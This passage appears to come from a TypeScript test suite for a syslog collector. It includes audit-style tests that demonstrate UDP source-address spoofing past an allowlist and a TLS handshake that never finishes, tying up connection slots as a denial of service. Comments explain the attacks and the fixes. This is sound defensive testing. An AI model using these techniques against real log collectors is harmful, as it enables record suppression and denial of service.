        return settled;
      }, 60_000, 'events out');
      const events = readEvents(out);
      const real = events.filter((e) => e.pid === 4242);
      assert.equal(real.length, 1, `the real record is ${real.length === 0 ? 'lost' : 'there'} (${events.length} events of ${run.source.stats.messages} messages)`);
      assert.equal(real[0]!.source.input, 'syslog:db1');
      socket.destroy();
    } finally {
      await run.running.stop();
    }
  });
  // (medium, docs) `allow` checks a UDP datagram's source address, which any host
  // that can reach the port forges with one raw socket (test/pipeline/udp-spoof.py; root or
  // CAP_NET_RAW on the attacker's own machine, nothing on the collector). The datagram below
  // claims 192.0.2.7, is sent from this process, and is read as an allowed sender's. With
  // findings 1 and 3, that is record suppression from outside the allowlist. The docs say only
  // "behind NAT or a proxy the address is the last hop's". What holds now: say that allow does not
  // authenticate UDP (use TCP, whose handshake proves the address, or TLS with ca_file), and
  // consider refusing udp_port unless the config says it accepts that (e.g. udp_trusted: true).
  it('says that a UDP source address in allow can be forged (root: shows it)', { skip: process.getuid?.() !== 0 && 'needs root for a raw socket' }, async () => {
    const udp = await freePort();
    const out = join(dir, 'spoof.jsonl');
    const run = await runSyslog({ udp_port: udp, allow: ['192.0.2.7'] }, { out: { type: 'jsonl', path: out, fsync: false } });
    try {
      const sent = spawnSync('python3', [join(import.meta.dirname, 'udp-spoof.py'), '192.0.2.7', '127.0.0.1', String(udp), record(1, { host: 'db1' })]);
      assert.equal(sent.status, 0, sent.stderr.toString());
      await waitFor(async () => readEvents(out).length === 1, 10_000, 'the forged datagram read');
      assert.equal(run.source.stats.refused_address, 0);
    } finally {
      await run.running.stop();
    }
    const docs = readFileSync(join(import.meta.dirname, '../../docs/pipeline.md'), 'utf8');
    const section = docs.slice(docs.indexOf('Against a hostile sender'), docs.indexOf('Performance (`npm run bench:syslog`'));
    assert.match(section, /UDP[^.]*(forged|spoof)/i, 'the hostile-sender section says UDP source addresses can be forged');
  });
  // (high, DoS from inside allow, no certificate needed) a TLS handshake that never
  // finishes is counted (tls_errors) at handshakeTimeout, but Node leaves the socket open when
  // the server has a 'tlsClientError' listener, and the source's listener does not destroy it.
  // The raw socket stays in `sockets`, holding its max_connections slot for good (no idle or
  // frame timeout applies before the handshake). max_connections such connections (1000 by
  // default, each 6 bytes sent once) lock out every TCP and TLS sender until a restart. The
  // fix: destroy the socket in the tlsClientError handler: (error, socket) => { ...; socket.destroy(); }.
  it('closes a connection whose TLS handshake timed out, freeing its max_connections slot', async () => {
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'key.pem', '-out', 'cert.pem', '-subj', '/CN=localhost', '-days', '1'], { cwd: dir, stdio: 'pipe' });
    const tls = await freePort();
    const run = await runSyslog({ tls_port: tls, tls: { cert_file: join(dir, 'cert.pem'), key_file: join(dir, 'key.pem') }, allow: ['127.0.0.1'], frame_timeout_seconds: 1 }, { out: { type: 'jsonl', path: join(dir, 'tls.jsonl'), fsync: false } });
    try {
      const socket = connect({ port: tls, host: '127.0.0.1' });
      socket.on('error', () => undefined);
      socket.once('connect', () => socket.write(Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00, 0x01]))); // a record header announcing 16 KiB, one byte of it
      await waitFor(async () => run.source.stats.tls_errors === 1, 10_000, 'the handshake timeout');
      await Promise.race([closed(socket), new Promise((resolve) => setTimeout(resolve, 5000))]);
      assert.equal(socket.destroyed, true, 'the server closed the connection after its failed handshake');
      socket.destroy();
    } finally {
      await run.running.stop();
    }
  });
});
